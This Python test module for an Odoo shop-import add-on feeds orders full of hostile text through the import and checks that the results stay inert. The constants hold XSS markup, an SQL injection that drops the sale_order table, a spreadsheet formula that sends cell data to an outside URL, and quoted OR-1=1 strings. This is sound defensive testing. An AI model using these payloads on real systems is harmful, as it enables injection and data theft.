"""Names, notes and SKUs that mean something to a database, a browser or a spreadsheet."""

import csv
import io
import json

from lxml import html

from odoo.tests import tagged

from odoo.addons.web.controllers.export import CSVExport

from ..core import plain
from .common import JANE
from .line_case import LineCase
from .pure.hostile import TEXTS

MARKUP = '<img src=x onerror="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)">'
#: A shop escapes names: what its customers typed comes out of it as it was.
ESCAPED = MARKUP.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
SQL = "Robert'); DROP TABLE sale_order; -- %s %(id)s"
FORMULA = '=HYPERLINK("http://example.com?"&A1,"open")'
CONTROLS = "a\x01\x08\x0b\x1f\x7f\x85\ufffeb"
#: What a browser would act on: our own tables and lists have none of it.
LIVE = {"script", "img", "iframe", "object", "embed", "form", "link", "meta", "svg", "style"}


@tagged("post_install", "-at_install")
class TestHostileTexts(LineCase):
    backend_values = {"product_policy": "create"}

    # === HTML === #

    def assertInert(self, text, where=""):
        """HTML that shows what was sent and does nothing."""
        if not text:
            return
        root = html.fragment_fromstring(str(text), create_parent="div")
        for element in root.iter():
            self.assertNotIn(element.tag, LIVE, where)
            for name, value in element.attrib.items():
                self.assertFalse(name.startswith("on"), where)
                self.assertNotIn("javascript:", value, where)

    def assertAllInert(self, records):
        """Every HTML field of some records, and their messages."""
        for record in records.sudo():
            for name, field in record._fields.items():
                if field.type == "html":
                    self.assertInert(record[name], f"{record._name}.{name}")
            if "message_ids" in record._fields:
                for message in record.message_ids:
                    self.assertInert(message.body, f"message of {record._name}")

    def bought(self, text):
        """An order full of a text, imported; returns (event, sales order)."""
        order = self.place(
            ("MUG", 1), fees=[("Gift wrap", "2.50")], shipping=[("flat_rate", "4.95")]
        )
        payload = self.payload(order)
        names = ("first_name", "last_name", "company", "address_1", "address_2", "city", "postcode")
        for address in ("billing", "shipping"):
            payload[address] = {**JANE, **dict.fromkeys(names, text), "phone": text, "state": text}
        payload["customer_note"] = text
        payload["payment_method_title"] = payload["transaction_id"] = text
        payload["number"] = f"{order['id']} {text}"[:200]
        for item in payload["line_items"]:
            item.update(name=text, product_id=None, variation_id=None, sku=f"{item['id']} {text}")
            item["meta_data"] = [
                {"id": 1, "key": text, "value": text, "display_key": text, "display_value": text}
            ]
        payload["shipping_lines"][0]["method_title"] = text
        payload["fee_lines"][0]["name"] = text
        payload["meta_data"] = [{"id": 1, "key": "_billing_vat_number", "value": text}]
        # whatever a shop sends has come through this
        return self.import_changed(plain.loads(json.dumps(payload)))

    def test_markup_is_shown_and_does_nothing(self):
        event, sale = self.bought(ESCAPED)
        self.assertEqual(event.state, "done", event.issue_id.details)
        line = sale.order_line.filtered(lambda line: line.product_id.type != "service")[:1]
        self.assertIn("<script>", line.name, "it is text, and stays what the customer typed")
        parties = sale.partner_id | sale.partner_invoice_id | sale.partner_shipping_id
        self.assertAllInert(sale)
        self.assertAllInert(parties | parties.parent_id)
        self.assertAllInert(sale.order_line.product_id.product_tmpl_id)
        self.assertAllInert(sale.order_line.product_id)
        self.assertAllInert(sale.picking_ids)
        body = "".join(map(str, sale.message_ids.mapped("body")))
        self.assertIn("alert(1)", body, "the customer's note is told")

    def test_markup_in_an_issue(self):
        order = self.payload(self.place(("MUG", 1)))
        order["currency"] = "XXX"
        order["number"] = order["status"] = order["payment_method"] = MARKUP
        order["shipping_lines"] = [{"id": 5, "method_id": MARKUP, "method_title": ESCAPED}]
        event, _sale = self.import_changed(order)
        self.assertEqual(event.state, "blocked")
        self.assertTrue(event.issue_id.title)
        self.assertAllInert(event.issue_id | event.issue_ids)
        for issue in event.issue_ids:
            self.assertAllInert(issue)

    def test_markup_where_two_versions_are_compared(self):
        order = self.place(("MUG", 2))
        sale = self.import_order(order)
        sale.picking_ids.move_ids.write({"quantity": 2, "picked": True})
        sale.picking_ids.button_validate()
        payload = self.payload(order)
        payload["line_items"][0].update(name=ESCAPED, quantity=1, total="19.99", subtotal="19.99")
        payload["billing"] = {**JANE, "first_name": ESCAPED, "city": ESCAPED}
        event, _sale = self.import_changed(payload)
        self.assertIn(event.state, ("blocked", "done"))
        self.assertAllInert(sale)
        for issue in event.issue_ids:
            self.assertAllInert(issue)

    # === DATABASE === #

    def test_texts_for_a_database_are_texts(self):
        before = self.env["sale.order"].search_count([])
        event, sale = self.bought(SQL)
        self.assertEqual(event.state, "done", event.issue_id.details)
        self.assertEqual(sale.partner_id.city, SQL)
        self.assertEqual(self.env["sale.order"].search_count([]), before + 1)

    def test_wildcards_match_nothing_else(self):
        for sku in ("%", "_UG", "mu%", "\\", "M\\UG", "*", "MUG' OR '1'='1"):
            with self.subTest(sku=sku):
                payload = self.payload(self.place(("MUG", 1)))
                payload["line_items"][0].update(sku=sku, product_id=None, variation_id=None)
                _event, sale = self.import_changed(payload)
                self.assertNotIn(self.mug, sale.order_line.product_id)
                issue = self.env["channel.issue"].new(
                    {"code": "ambiguous_product", "params": {"sku": sku}}
                )
                issue.company_id = self.company
                fixer = self.env["channel.fixer.product"]
                self.assertFalse(fixer._candidates(issue) & (self.mug | self.book))

    def test_an_address_with_wildcards_is_nobodys(self):
        known = self.buy(("MUG", 1)).partner_id
        for email in ("%@example.com", "jane@example.co_", "jane@example.com' OR 1=1"):
            with self.subTest(email=email):
                sale = self.buy(("MUG", 1), billing={**JANE, "email": email})
                self.assertNotEqual(sale.partner_id.commercial_partner_id, known)

    # === SPREADSHEETS === #

    def test_formulas_in_an_export_are_texts(self):
        _event, sale = self.bought(FORMULA)
        names = ["partner_id/name", "partner_id/city", "note", "order_line/name"]
        rows = sale.partner_id.export_data(["name", "city", "street"])["datas"]
        rows += sale.order_line.export_data(["name", "product_id/default_code", "name"])["datas"]
        text = CSVExport().from_data([], names, rows)
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        self.assertTrue([cell for cell in cells if "HYPERLINK" in cell])
        self.assertFalse([cell for cell in cells if cell[:1] in ("=", "+", "-", "@")])

    # === EVERYTHING ELSE === #

    def test_every_odd_text_becomes_an_order(self):
        for text in (*TEXTS, CONTROLS, FORMULA, "\u202eevil", "a" * 20_000, "ß" * 3_000):
            with self.subTest(text=text[:40]):
                event, sale = self.bought(text)
                self.assertEqual(event.state, "done", event.issue_id.details)
                self.assertAllInert(sale)
                self.assertInert(sale.message_ids[:1].body)

    def test_odd_texts_can_be_printed(self):
        for text in (CONTROLS, ESCAPED, FORMULA):
            with self.subTest(text=text[:20]):
                _event, sale = self.bought(text)
                report = self.env["ir.actions.report"]
                content, _kind = report._render_qweb_html("sale.action_report_saleorder", sale.ids)
                root = html.fromstring(content)
                self.assertFalse(root.xpath("//img[@onerror] | //script[contains(., 'alert')]"))
